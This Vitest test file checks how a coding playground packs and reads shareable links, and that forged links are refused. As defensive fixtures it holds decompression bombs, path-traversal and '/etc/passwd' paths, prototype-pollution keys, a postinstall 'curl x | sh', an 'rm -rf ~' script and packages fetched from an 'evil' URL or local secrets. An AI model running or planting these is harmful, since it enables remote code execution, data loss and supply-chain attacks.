import { deflateRawSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { checkSum } from '../../envelope/check-sum.ts';
import type { Files } from '../../files/files.ts';
import type { Base, PlaygroundCode } from '../code.ts';
import { GOES_ANYWHERE, LONGEST_LINK } from '../limits.ts';
import { isLink, packLink, readLink } from './link.ts';

const manifest = (change: object = {}): string =>
  JSON.stringify({
    name: 'stagedoor',
    scripts: { dev: 'next dev' },
    dependencies: { next: '16.4.6' },
    ...change,
  });
const LONG = Array.from(
  { length: 400 },
  (_, line) => `export const value${line} = ${(line * 7919) % 10_007};`,
).join('\n');
const base: Files = {
  'app/page.tsx': 'export default () => null;\n',
  'actions/orders.ts': "'use server';\n",
  'long.ts': LONG,
  'package.json': manifest(),
  'public/dot.png': new Uint8Array([1, 2, 3]),
};
const PAGE = 'https://lab.example.com/playground/';

const playground = (change: Partial<PlaygroundCode>): PlaygroundCode => ({
  name: 'My idea',
  base: { kind: 'lesson', lesson: 'own-the-row', code: 'starter' },
  madeFor: 'abc123',
  changes: {},
  checks: null,
  ...change,
});

const filesOf = async (of: Base): Promise<Files | null> =>
  of.kind === 'lesson' && of.lesson !== 'own-the-row' ? null : base;
const read = (fragment: string) => readLink(fragment, filesOf);

const fragmentOf = async (code: PlaygroundCode): Promise<string> => {
  const packed = await packLink(code, base, PAGE);
  if (packed.kind !== 'link') throw new Error(`no link: ${JSON.stringify(packed)}`);
  return packed.href.slice(PAGE.length);
};

/** A link as nobody's page would make it, with a check sum that is right. */
const forged = (contents: unknown, version = 1): string => {
  const bytes =
    contents instanceof Uint8Array ? contents : new TextEncoder().encode(JSON.stringify(contents));
  const head = `v${version}.${deflateRawSync(bytes).toString('base64url')}`;
  return `#${head}.${checkSum(head)}`;
};
const withFiles = (...files: unknown[]): object => ({
  name: 'x',
  base: { kind: 'template' },
  madeFor: null,
  files,
  checks: null,
});
const withText = (path: string, text: unknown = 'x'): object => withFiles(['text', path, text]);

test.each<[string, Partial<PlaygroundCode>]>([
  ['nothing', {}],
  [
    'a changed, a new and a deleted file',
    { changes: { 'app/page.tsx': 'new\n', 'lib/a.ts': 'a', 'actions/orders.ts': null } },
  ],
  [
    'bytes',
    { changes: { 'public/me.png': new Uint8Array([0, 255, 128, 7]), 'public/dot.gif': new Uint8Array() } },
  ],
  [
    'letters of every kind',
    {
      name: 'Überblick 日本 🎭',
      changes: { 'a.ts': '\u0000 \u{1F3AD} \uFEFF \r\n </script> \\u0000 __proto__' },
    },
  ],
  [
    'paths as Next has them',
    {
      changes: {
        'app/@modal/(.)events/[...slug]/[[...all]]/page.tsx': 'x',
        constructor: 'x',
        'toString/valueOf.ts': 'x',
      },
    },
  ],
  [
    'checks and another base',
    { base: { kind: 'example', example: 'rate-limit' }, checks: 'export default [];', madeFor: null },
  ],
  ['the bare app', { base: { kind: 'template' } }],
  ['a solution', { base: { kind: 'lesson', lesson: 'own-the-row', code: 'solution' } }],
  [
    'a package',
    { changes: { 'package.json': manifest({ dependencies: { next: '16.4.6', 'lodash-es': '^4.17.0' } }) } },
  ],
  ['a change in a long file', { changes: { 'long.ts': `${LONG.replace('value200 =', 'changed =')}\nend` } }],
])('a link with %s is read as it was made', async (_, change) => {
  const code = playground(change);
  expect(await read(await fragmentOf(code))).toMatchObject({ kind: 'read', shared: { code } });
});

test('whatever lines are put in, taken out and moved, the link gives them back', async () => {
  let seed = 7;
  const random = (below: number): number => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return Math.floor((seed / 2_147_483_648) * below);
  };
  for (let turn = 0; turn < 40; turn++) {
    const lines = LONG.split('\n');
    for (let edit = random(8); edit >= 0; edit--) {
      const gone = random(6);
      const come = Array.from(
        { length: random(5) },
        () => ['', '}', 'é', lines[random(lines.length)] ?? ''][random(4)] ?? '',
      );
      lines.splice(random(lines.length), gone, ...come);
    }
    const code = playground({ changes: { 'long.ts': lines.join('\n'), 'small.ts': String(turn) } });
    expect(await read(await fragmentOf(code))).toMatchObject({ kind: 'read', shared: { code } });
  }
});

test('a link says what packages it adds', async () => {
  const text = manifest({ dependencies: { next: '16.4.7', zod: '4' } });
  expect(await read(await fragmentOf(playground({ changes: { 'package.json': text } })))).toMatchObject({
    shared: {
      packages: [
        { name: 'next', version: '16.4.7', before: '16.4.6' },
        { name: 'zod', version: '4', before: null },
      ],
    },
  });
});

test('a file is linked whole while the link goes anywhere, so that it fits another version of its base', async () => {
  const fragment = await fragmentOf(playground({ changes: { 'app/page.tsx': 'mine\n' } }));
  const other = await readLink(fragment, async () => ({ ...base, 'app/page.tsx': 'theirs\n' }));
  expect(other).toMatchObject({ kind: 'read', shared: { code: { changes: { 'app/page.tsx': 'mine\n' } } } });
});

test('one changed line of a long file makes a short link, which fits only what it was made over', async () => {
  const changes = { 'long.ts': LONG.replace('value200 =', 'changed =') };
  const packed = await packLink(playground({ changes }), base, PAGE);
  expect(packed).toMatchObject({ kind: 'link', goesAnywhere: true });
  const fragment = await fragmentOf(playground({ changes }));
  expect(fragment.length).toBeLessThan(300);
  const other = await readLink(fragment, async () => ({ ...base, 'long.ts': `${LONG}\n` }));
  expect(other).toEqual({ kind: 'refused', why: expect.stringMatching(/another version of this site/) });
});

const noise = (bytes: number): Uint8Array => {
  let value = 1;
  return Uint8Array.from({ length: bytes }, () => {
    value = (value * 48_271) % 2_147_483_647;
    return value % 256;
  });
};

test('a link that some messages cannot hold says so, and one that is longer than the longest is not made', async () => {
  const some = await packLink(playground({ changes: { 'a.png': noise(4_000) } }), base, PAGE);
  expect(some).toMatchObject({ kind: 'link', goesAnywhere: false });
  const long = await packLink(playground({ changes: { 'a.png': noise(20_000) } }), base, PAGE);
  expect(long).toEqual({ kind: 'too-long', length: expect.any(Number) });
  expect(long.kind === 'too-long' && long.length).toBeGreaterThan(LONGEST_LINK);
  const huge = await packLink(
    playground({ changes: { 'a.txt': 'a'.repeat(999_990), 'b.txt': 'b' } }),
    base,
    PAGE,
  );
  expect(huge).toMatchObject({ kind: 'too-long' });
});

test('code that nobody could open makes no link', async () => {
  const packed = await packLink(playground({ changes: { '.env': 'SECRET=1' } }), base, PAGE);
  expect(packed).toEqual({ kind: 'refused', why: expect.stringMatching(/environment/) });
});

test('the end of a link is a letter or a digit, so that no program takes it for the end of a sentence', async () => {
  for (let turn = 0; turn < 20; turn++)
    expect(await fragmentOf(playground({ name: `n${turn}` }))).toMatch(/^#v1\.[\w-]+\.[0-9a-f]{8}$/);
});

test('a name that cannot be shown is not put into a link', async () => {
  for (const [name, shown] of [
    ['  A\u202Eb\n ', 'A b'],
    ['\u200B', 'Playground'],
    ['x'.repeat(500), 'x'.repeat(80)],
  ])
    expect(await read(await fragmentOf(playground({ name })))).toMatchObject({
      shared: { code: { name: shown } },
    });
});

test('a fragment that is meant as a link is told from others', () => {
  expect(['#v1.abc', '#v99.', '#main', '', '#version', 'v1.abc'].map(isLink)).toEqual([
    true,
    true,
    false,
    false,
    false,
    false,
  ]);
});

const good = forged(withText('a.ts'));
test('the links forged here are like those that are made', async () => {
  expect(await read(good)).toMatchObject({ kind: 'read' });
});

test.each<[string, string, RegExp]>([
  ['cut at its end', good.slice(0, -3), /cut or changed/],
  ['cut in the middle', `${good.slice(0, 20)}${good.slice(24)}`, /cut or changed/],
  [
    'changed by one letter',
    good.replace(/(?<=v1\...)./, (letter) => (letter === 'x' ? 'y' : 'x')),
    /cut or changed/,
  ],
  ['escaped on its way', good.replace('.', '%2E'), /cut or changed/],
  ['of a newer version', forged(withText('a.ts'), 2), /newer version/],
  ['of version 0', forged(withText('a.ts'), 0), /cut or changed/],
  ['longer than any', `#v1.${'a'.repeat(LONGEST_LINK)}.00000000`, /longer than any/],
  ['a bomb: 12 MB of zeros in 12 kB', forged(new Uint8Array(12_000_000)), /unpacks to more/],
  ['a bomb in valid JSON', forged(withText('a.ts', ' '.repeat(5_000_000))), /unpacks to more/],
  [
    'no deflate',
    (() => {
      const head = 'v1.AAAA';
      return `#${head}.${checkSum(head)}`;
    })(),
    /damaged/,
  ],
  [
    'letters that are no base64',
    (() => {
      const head = 'v1.A';
      return `#${head}.${checkSum(head)}`;
    })(),
    /damaged/,
  ],
  ['not UTF-8', forged(new Uint8Array([0x22, 0xff, 0xfe, 0x22])), /damaged/],
  ['UTF-8 longer than it need be', forged(new Uint8Array([0x22, 0xc0, 0xaf, 0x22])), /damaged/],
  ['no JSON', forged(new TextEncoder().encode('{')), /damaged/],
  ['null', forged(null), /damaged at its beginning/],
  ['a list', forged([]), /damaged/],
  [
    'without files',
    forged({ name: 'x', base: { kind: 'template' }, madeFor: null, checks: null }),
    /damaged at files/,
  ],
  ['with a field that no version has', forged({ ...withText('a.ts'), run: true }), /damaged/],
  ['with a number for a text', forged(withText('a.ts', 7)), /damaged at files/],
  [
    'with a kind of file that is none',
    forged(withFiles(['link', 'a.ts', '/etc/passwd'])),
    /damaged at files/,
  ],
  ['with bytes that are no base64', forged(withFiles(['bytes', 'a.png', '%%%'])), /damaged at files/],
  [
    'with half a character',
    forged(new TextEncoder().encode(JSON.stringify(withText('a.ts')).replace('"x"]', '"\\ud800"]'))),
    /half a character/,
  ],
  ['without a name', forged({ ...withText('a.ts'), name: '  ' }), /damaged at name/],
  [
    'with a name of a thousand letters',
    forged({ ...withText('a.ts'), name: 'x'.repeat(1000) }),
    /damaged at name/,
  ],
  [
    'with a name that turns the line around',
    forged({ ...withText('a.ts'), name: 'abc\u202Etxt' }),
    /damaged at name/,
  ],
  ['with checks that are no text', forged({ ...withText('a.ts'), checks: {} }), /damaged at checks/],
  [
    'with checks without an end',
    forged({ ...withText('a.ts'), checks: 'x'.repeat(100_001) }),
    /damaged at checks/,
  ],
  [
    'from a lesson that is not here',
    forged({ ...withText('a.ts'), base: { kind: 'lesson', lesson: 'elsewhere', code: 'starter' } }),
    /does not have/,
  ],
  [
    'from a lesson whose name is a path',
    forged({ ...withText('a.ts'), base: { kind: 'lesson', lesson: '../../x', code: 'starter' } }),
    /damaged at base/,
  ],
  [
    'from a base that is none',
    forged({ ...withText('a.ts'), base: { kind: 'git', git: 'https://x' } }),
    /damaged at base/,
  ],
  [
    'from a prototype',
    forged({ ...withText('a.ts'), base: { kind: 'example', example: '__proto__' } }),
    /damaged at base/,
  ],
  [
    'with thousands of files',
    forged(withFiles(...Array.from({ length: 2000 }, (_, n) => ['text', `a${n}.ts`, '']))),
    /damaged at files/,
  ],
  ['with one file twice', forged(withFiles(['text', 'a.ts', 'good'], ['text', 'a.ts', 'bad'])), /twice/],
  [
    'with two files that differ in case',
    forged(withFiles(['text', 'a.ts', ''], ['text', 'A.ts', ''])),
    /one file on some systems/,
  ],
  ['with a base’s file in another case', forged(withText('APP/page.tsx')), /on some systems/],
  ['with a file where the base has a folder', forged(withText('app')), /cannot lie in it/],
  ['with a file inside a file', forged(withText('app/page.tsx/a.ts')), /cannot lie in it/],
  [
    'with edits of what the base does not have',
    forged(withFiles(['edits', 'no.ts', '00000000', []])),
    /another version/,
  ],
  ['with edits of another text', forged(withFiles(['edits', 'long.ts', '00000000', []])), /another version/],
  [
    'with edits beyond the end',
    forged(withFiles(['edits', 'long.ts', checkSum(LONG), [[9999, 1, null]]])),
    /do not fit/,
  ],
  [
    'with edits that go backwards',
    forged(withFiles(['edits', 'long.ts', checkSum(LONG), [[-1, 0, 'x']]])),
    /damaged at files/,
  ],
  [
    'with edits of what every object has',
    forged(withFiles(['edits', 'constructor', '00000000', []])),
    /another version/,
  ],
])('a link that is %s is refused with the reason', async (_, fragment, why) => {
  expect(await read(fragment)).toEqual({ kind: 'refused', why: expect.stringMatching(why) });
});

test.each<[string, string, RegExp]>([
  ['leads out', '../a.ts', /segment/],
  ['leads out from inside', 'app/../../a.ts', /segment/],
  ['is absolute', '/etc/passwd', /absolute/],
  ['is absolute on Windows', 'C:/a.ts', /Windows forbids/],
  ['has a backslash', 'app\\..\\..\\a.ts', /Windows forbids/],
  ['is a device on Windows', 'app/con.tsx', /Windows reserves/],
  ['is a stream on Windows', 'app/page.tsx::$DATA', /Windows forbids/],
  ['is a short name on Windows', 'NODE_M~1/next/index.js', /not the same everywhere/],
  ['ends in a dot', 'node_modules./a.js', /ends in a dot/],
  ['has a slash that is another letter', 'app\uFF0F..\uFF0Fa.ts', /look like another/],
  ['has dots that are other letters', '\u2025/a.ts', /look like another/],
  ['has a letter of another script', '\u0430pp/page.tsx', /look like another/],
  ['has an accent in two pieces', 'cafe\u0301.ts', /look like another/],
  ['hides letters', 'app/\u200Bpage.tsx', /look like another/],
  ['turns the line around', 'app/\u202Expst.ts', /look like another/],
  ['has a control character', 'app/a\u0000.ts', /control character/],
  ['is escaped', '%2e%2e/a.ts', /not the same everywhere/],
  ['is empty', '', /empty/],
  ['is a prototype', '__proto__', /reserved/],
  ['is a prototype inside', '__proto__/polluted.ts', /reserved/],
  ['lies in the lab’s own folder', '.lab/server.mjs', /lab’s own folder/],
  ['lies there in another case', '.LAB/agent.js', /lab’s own folder/],
  ['lies in node_modules', 'node_modules/next/index.js', /belongs to the packages/],
  ['lies in node_modules further down', 'app/Node_Modules/a.js', /belongs to the packages/],
  ['sets the environment', '.env', /environment/],
  ['sets the environment by another name', '.env.local', /environment/],
  ['configures npm', '.npmrc', /hidden/],
  ['is Git’s', '.git/hooks/post-checkout', /hidden/],
  ['is what Next has built', '.next/server/app.js', /hidden/],
  ['is a lockfile', 'package-lock.json', /what npm installs/],
  ['is another lockfile', 'npm-shrinkwrap.json', /what npm installs/],
  ['is one in a folder', 'lib/yarn.lock', /what npm installs/],
  ['makes a workspace', 'pnpm-workspace.yaml', /what npm installs/],
  ['is that of its own checks', 'checks.ts', /own checks/],
  ['is Next’s own', 'next-env.d.ts', /by Next.js itself/],
])('a link with a path that %s is refused with the reason', async (_, path, why) => {
  for (const file of [
    ['text', path, 'x'],
    ['gone', path],
    ['bytes', `${path}`, 'AAAA'],
  ])
    expect(await read(forged(withFiles(file)))).toEqual({ kind: 'refused', why: expect.stringMatching(why) });
});

test('a path that is too long for any system is refused', async () => {
  expect(await read(forged(withText(`${'a/'.repeat(150)}a.ts`)))).toMatchObject({ kind: 'refused' });
});

test.each<[string, string | null, RegExp]>([
  ['install scripts', manifest({ scripts: { dev: 'next dev', postinstall: 'curl x | sh' } }), /scripts/],
  ['another dev script', manifest({ scripts: { dev: 'rm -rf ~' } }), /scripts/],
  [
    'a package from an address',
    manifest({ dependencies: { next: '16.4.6', evil: 'https://x.example/evil.tgz' } }),
    /only versions from npm/,
  ],
  [
    'a package from Git',
    manifest({ dependencies: { next: '16.4.6', evil: 'git+ssh://x/y' } }),
    /only versions from npm/,
  ],
  [
    'a package from GitHub',
    manifest({ dependencies: { next: '16.4.6', evil: 'somebody/evil' } }),
    /only versions from npm/,
  ],
  [
    'a package from this disk',
    manifest({ dependencies: { next: '16.4.6', evil: 'file:../../secrets' } }),
    /only versions from npm/,
  ],
  [
    'a package by another name',
    manifest({ dependencies: { next: 'npm:evil@1.0.0' } }),
    /only versions from npm/,
  ],
  [
    'a package whose name is a path',
    manifest({ dependencies: { '../evil': '1.0.0' } }),
    /no name of a package/,
  ],
  [
    'a package whose name is a prototype',
    manifest().replace('"dependencies":{', '"dependencies":{"__proto__":"1",'),
    /cannot be read/,
  ],
  ['a package in both lists', manifest({ devDependencies: { next: '15.0.0' } }), /twice/],
  ['a package in another’s place', manifest({ overrides: { react: '0.0.1' } }), /only packages may differ/],
  ['workspaces', manifest({ workspaces: ['../*'] }), /only packages may differ/],
  [
    'packages without end',
    manifest({ dependencies: Object.fromEntries(Array.from({ length: 100 }, (_, n) => [`p${n}`, '1'])) }),
    /more than 60/,
  ],
  ['a list of packages', manifest({ dependencies: [] }), /cannot be read/],
  ['no JSON', '{', /cannot be read/],
  ['nothing', null, /missing/],
])('a link whose package.json has %s is refused', async (_, text, why) => {
  const file = text === null ? ['gone', 'package.json'] : ['text', 'package.json', text];
  expect(await read(forged(withFiles(file)))).toEqual({ kind: 'refused', why: expect.stringMatching(why) });
});

test('the longest link that goes anywhere is shorter than the longest', () => {
  expect(GOES_ANYWHERE).toBeLessThan(LONGEST_LINK);
});
